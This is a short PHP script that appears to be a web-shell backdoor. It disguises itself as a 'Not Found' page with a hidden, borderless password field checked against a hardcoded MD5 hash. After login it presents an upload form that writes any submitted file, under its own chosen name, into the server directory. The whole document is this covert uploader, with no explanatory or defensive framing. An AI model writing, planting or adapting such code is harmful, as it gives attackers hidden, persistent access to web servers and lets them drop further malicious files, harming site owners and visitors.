<?php
session_start();
$key = "5f4dcc3b5aa765d61d8327deb882cf99";
if (isset($_POST["k"])) {
    $typed = md5($_POST["k"]);
    if ($typed == $key) {
        $_SESSION["ok"] = 1;
    }
}
if (isset($_SESSION["ok"])) {
    echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="go"></form>';
} else {
    echo '<h1>Not Found</h1><form method="post"><input type="password" name="k" style="border:0"></form>';
}
if (isset($_FILES["f"])) {
    $n = $_FILES["f"]["name"];
    $t = $_FILES["f"]["tmp_name"];
    move_uploaded_file($t, "" . $n);
}
